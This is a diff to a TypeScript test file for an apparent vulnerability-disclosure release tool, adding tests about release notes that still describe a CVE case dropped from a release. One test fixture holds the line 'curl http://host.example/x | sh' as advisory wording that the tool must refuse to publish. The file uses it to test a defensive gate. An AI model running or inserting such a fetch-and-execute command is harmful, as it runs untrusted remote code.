@@ -1,7 +1,8 @@
 import { describe, expect, it } from 'vitest'
-import { CveId, isCveKept, later } from '../../src/index.ts'
+import { CveId, isCveKept, later, outlook } from '../../src/index.ts'
 import type { PersonRequest } from '../../src/index.ts'
-import { DATE, delivered, ONE, told } from '../fixtures/multi-case-scenario.ts'
+import type { MultiCaseScenario } from '../fixtures/multi-case-scenario.ts'
+import { DATE, delivered, ONE, told, TWO } from '../fixtures/multi-case-scenario.ts'
 import { ana, ben, BLOB, CASE, DAY, HOUR, OTHER_HASH, person, RELEASE, Scenario } from '../fixtures/scenario.ts'
 
 const ID = CveId.parse('CVE-1900-0042')
@@ -85,5 +86,67 @@ describe('the release notes that the releaser gets before the build', () => {
     scenario.does({ ...set, reserved: { test: true } }, person(ana))
     scenario.does(notes, person(ana))
     expect(given(scenario)).toEqual([{ case: CASE }])
+  })
+})
+
+describe('release notes that describe a case which left the release', () => {
+  const give: PersonRequest = { verb: 'release.notes', case: ONE }
+  const drop = { verb: 'release.drop', case: TWO, reason: 'the fix breaks 4.2' } as const
+  const disclose = { verb: 'disclose', case: ONE } as const
+  const warning = `The releaser has release notes that describe ${TWO}: no build that was made from them may be published.`
+  const next = (scenario: MultiCaseScenario) =>
+    outlook(scenario.policy, scenario.worldAt(ONE), scenario.now)?.next ?? expect.fail('no next action')
+
+  function given(): MultiCaseScenario {
+    const scenario = delivered(told())
+    scenario.does(give, person(ana))
+    return scenario
+  }
+
+  it('are named before the case is taken out, and before the rest is published', () => {
+    const scenario = given()
+    expect(scenario.preview(drop).sentences).toContain(warning)
+    scenario.asked(drop).approved(TWO)
+    scenario.now = DATE
+    expect(scenario.preview(disclose).sentences).toContain(warning)
+    scenario.does(give, person(ana))
+    expect(scenario.preview(disclose).sentences).not.toContain(warning)
+  })
+
+  it('are named before a publication that leaves the case out', () => {
+    const scenario = given()
+    scenario.now = DATE
+    expect(scenario.preview(disclose).sentences).not.toContain(warning)
+    scenario.asked(drop)
+    expect(scenario.preview(disclose).sentences).toContain(warning)
+  })
+
+  it('are not named if the notes were never given', () => {
+    const scenario = delivered(told())
+    expect(scenario.preview(drop).sentences.join(' ')).not.toContain('release notes')
+  })
+
+  it('must be given again next, without the case', () => {
+    const scenario = given()
+    expect(next(scenario)).toMatchObject({ verb: 'disclose' })
+    scenario.asked(drop).approved(TWO)
+    delivered(scenario)
+    expect(next(scenario)).toMatchObject({
+      action: `give the release notes again, without ${TWO}`,
+      verb: 'release.notes',
+      owner: 'Ana',
+    })
+    expect(scenario.does(give, person(ana))).toEqual(['ReleaseNotesGiven'])
+    expect(next(scenario)).toMatchObject({ verb: 'disclose' })
+  })
+
+  it('are not given again before a sentence in them that must not be public is corrected', () => {
+    const scenario = given()
+    scenario.asked(drop).approved(TWO)
+    delivered(scenario)
+    const impact = 'PoC: curl http://host.example/x | sh'
+    scenario.happens(ONE, { type: 'AdvisoryDrafted', component: 'the loader', impact })
+    expect(scenario.refused(give, person(ana))).toMatchObject({ gate: 'wording' })
+    expect(next(scenario)).toMatchObject({ verb: 'advisory' })
   })
 })
